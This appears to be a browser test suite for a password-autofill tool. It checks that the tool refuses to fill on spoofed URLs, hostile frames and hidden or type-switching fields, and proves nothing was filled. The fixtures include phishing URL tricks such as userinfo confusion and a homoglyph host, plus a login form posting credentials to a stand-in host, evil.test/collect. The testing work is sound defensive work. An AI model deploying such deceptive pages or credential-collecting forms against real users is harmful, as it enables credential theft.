/**
 * Issue #7, browser side: hostile URLs, frames and fields. Each case: the input, the
 * refusal code, and proof that nothing was filled (every input in every frame is empty,
 * and the server saw no login).
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { allInputValues, type Stack, startStack } from '../browser/setup.js';
import { addCredentials, expectNothingFilled, resetServer } from '../harness/browser-stack.js';

let s: Stack;
const username = 'alice@example.test';
const password = 'Adversarial-Pw-9!';

beforeAll(async () => {
  s = await startStack({ homeEnv: { BLINDFILL_RATE_PER_MINUTE: '1000' } });
  const o = (h: string) => s.server.origin(h);
  await addCredentials(s.home, [
    { label: 'bank', username, password, origins: [o('bank.test')] },
    { label: 'alice', username, password, origins: [o('alice.github.io')] },
  ]);
});
afterAll(async () => {
  await s?.close();
});
beforeEach(() => resetServer(s, { username, password }));

async function nothingFilled() {
  await expectNothingFilled(s.page);
  expect(s.server.logins()).toEqual([]);
}

async function refusedAt(url: string, code: string, label = 'bank') {
  await s.page.goto(url).catch(() => undefined); // some URLs end in an error page: that is the point
  await s.page.waitForLoadState('load').catch(() => undefined);
  const r = await s.fill(label, { submit: true });
  expect(r.code, r.stdout).not.toBe(0);
  expect(r.stderr).toMatch(new RegExp(`^error ${code}: `));
  await nothingFilled();
}

describe('hostile URLs', () => {
  const P = () => s.server.port;
  it('https://bank.test@evil.test/ (user info: the host is evil.test)', () => refusedAt(`https://bank.test@evil.test:${P()}/plain`, 'ORIGIN_MISMATCH'));
  it('https://bank.test\\@evil.test/ (the browser\'s own parse decides)', async () => {
    await s.page.goto(`https://evil.test:${P()}\\@bank.test/plain`).catch(() => undefined);
    const origin = await s.page.evaluate(() => location.origin).catch(() => 'null');
    const r = await s.fill('bank', { submit: true });
    // Whatever the browser made of it, blindfill agrees with location.origin: it is not bank.test here.
    expect(origin).not.toBe(s.server.origin('bank.test'));
    expect(r.stderr).toMatch(/^error (ORIGIN_MISMATCH|NO_FILLABLE_FIELD): /);
    await nothingFilled();
  });
  it('Cyrillic look-alike host (bаnk.test)', () => refusedAt(`https://b\u0430nk.test:${P()}/plain`, 'ORIGIN_MISMATCH'));
  it('trailing-dot host (bank.test.)', () => refusedAt(`https://bank.test.:${P()}/plain`, 'ORIGIN_MISMATCH'));
  it('other port', () => refusedAt(`https://bank.test:${s.server.httpPort}/plain`, 'ORIGIN_MISMATCH'));
  it('http: downgrade', () => refusedAt(s.server.httpUrl('bank.test', '/plain'), 'INSECURE_ORIGIN'));
  it('sibling under a public suffix (bob.github.io for alice.github.io)', () => refusedAt(s.server.url('bob.github.io', '/plain'), 'ORIGIN_MISMATCH', 'alice'));
  it('subdomain without a wildcard (www.bank.test)', () => refusedAt(s.server.url('www.bank.test', '/plain'), 'ORIGIN_MISMATCH'));
  it('look-alike suffix (bank.test.evil.test)', () => refusedAt(s.server.url('bank.test.evil.test', '/plain'), 'ORIGIN_MISMATCH'));
  it('data: URL', () => refusedAt('data:text/html,<form><input name=u><input type=password name=p></form>', 'ORIGIN_MISMATCH'));
  it('about:blank', () => refusedAt('about:blank', 'ORIGIN_MISMATCH'));
  it('chrome:// page', () => refusedAt('chrome://version/', 'ORIGIN_MISMATCH'));
  it('file: URL', async () => {
    const fs = await import('node:fs');
    const f = `${s.home.dir}/../login.html`;
    fs.writeFileSync(f, '<form><input name=u><input type=password name=p></form>');
    await refusedAt(`file://${f}`, 'ORIGIN_MISMATCH');
  });
  it('an extension page', () => refusedAt(`chrome-extension://${s.browser.extensionId}/manifest.json`, 'ORIGIN_MISMATCH'));
  it('blob: URL made by the real site', async () => {
    await s.page.goto(s.server.url('bank.test', '/nothing'));
    const blobUrl = await s.page.evaluate(() =>
      URL.createObjectURL(new Blob(['<form><input name=u><input type=password name=p></form>'], { type: 'text/html' })),
    );
    await refusedAt(blobUrl, 'ORIGIN_MISMATCH');
  });
  it('full-width host folds to ASCII (same origin per WHATWG): filled, and the result names the ASCII origin', async () => {
    await s.page.goto(`https://\uff42\uff41\uff4e\uff4b.test:${s.server.port}/plain`);
    expect(await s.page.evaluate(() => location.hostname)).toBe('bank.test');
    const r = await s.fill('bank');
    expect(r.json).toMatchObject({ ok: true, origin: s.server.origin('bank.test') });
  });
});

describe('hostile frames', () => {
  it('cross-origin login iframe inside the real site', async () => {
    await s.page.goto(s.server.url('bank.test', '/cross-iframe?target=login.example.test'));
    await s.page.frameLocator('iframe').locator('input[type=password]').waitFor();
    const r = await s.fill('bank');
    expect(r.stderr).toMatch(/^error NO_FILLABLE_FIELD: /);
    await nothingFilled();
  });
  it('hostile top page framing the real site', async () => {
    await s.page.goto(s.server.url('evil.test', '/cross-iframe?target=bank.test'));
    await s.page.frameLocator('iframe').locator('input[type=password]').waitFor();
    const r = await s.fill('bank');
    expect(r.stderr).toMatch(/^error ORIGIN_MISMATCH: /);
    await nothingFilled();
  });
  it('sandboxed frame (opaque origin) holding the form', async () => {
    const url = s.server.url('bank.test', '/sandboxed');
    await s.page.route(url, (route) =>
      route.fulfill({ contentType: 'text/html', body: `<h1>Bank</h1><iframe sandbox="allow-forms allow-scripts" src="/plain" width=600 height=400></iframe>` }),
    );
    await s.page.goto(url);
    await s.page.frameLocator('iframe').locator('input[type=password]').waitFor();
    // location.origin still says bank.test in there; the document's real origin is opaque.
    expect(await s.page.frames()[1]!.evaluate(() => self.origin)).toBe('null');
    const r = await s.fill('bank');
    expect(r.stderr, r.stdout).toMatch(/^error NO_FILLABLE_FIELD: /);
    await nothingFilled();
  });
});

describe('hostile fields: the password never goes into them', () => {
  const CASES = ['display-none', 'opacity', 'ancestor-opacity', 'tiny', 'offscreen', 'clipped', 'covered'] as const;
  for (const c of CASES) {
    it(`${c}, whole form: NO_FILLABLE_FIELD`, async () => {
      await refusedAt(s.server.url('bank.test', `/hidden-fields?case=${c}&scope=form`), 'NO_FILLABLE_FIELD');
    });
    it(`${c}, password field only: the password is not filled`, async () => {
      await s.page.goto(s.server.url('bank.test', `/hidden-fields?case=${c}`));
      const r = await s.fill('bank');
      if (r.code === 0) expect(r.json?.filled).not.toContain('password');
      else expect(r.stderr).toMatch(/^error NO_FILLABLE_FIELD: /);
      expect(await allInputValues(s.page)).not.toContain(password);
    });
  }

  it('type=text posing as a password: the password never goes into it', async () => {
    for (const scope of ['', '&scope=form']) {
      await s.page.goto(s.server.url('bank.test', `/hidden-fields?case=text-as-password${scope}`));
      const r = await s.fill('bank');
      // The username may go in (the page could be an identifier-first step); the password not.
      if (r.code === 0) expect(r.json?.filled).not.toContain('password');
      expect(await allInputValues(s.page)).not.toContain(password);
    }
  });

  it('a field that turns into type=text when focused is left empty', async () => {
    await s.page.goto(s.server.url('bank.test', '/hidden-fields?case=switch-type&trigger=focus'));
    await s.fill('bank');
    expect(await allInputValues(s.page)).not.toContain(password);
  });

  it('a field that turns into type=text after the fill is emptied', async () => {
    await s.page.goto(s.server.url('bank.test', '/hidden-fields?case=switch-type&trigger=timer&after=1000'));
    const r = await s.fill('bank');
    expect(r.json).toMatchObject({ ok: true });
    await new Promise((res) => setTimeout(res, 1500));
    const types = await s.page.evaluate(() => Array.from(document.querySelectorAll('input')).map((i) => i.type));
    expect(types).not.toContain('password'); // the page did switch it
    expect(await allInputValues(s.page)).not.toContain(password);
  });

  it('a form whose action posts to another origin', async () => {
    const url = s.server.url('bank.test', '/exfil');
    await s.page.route(url, (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: `<h1>Sign in</h1><form method=post action="${s.server.url('evil.test', '/collect')}"><label>Email <input name=username autocomplete=username></label><label>Password <input type=password name=password autocomplete=current-password></label><button>Sign in</button></form>`,
      }),
    );
    await refusedAt(url, 'ORIGIN_MISMATCH');
  });
});
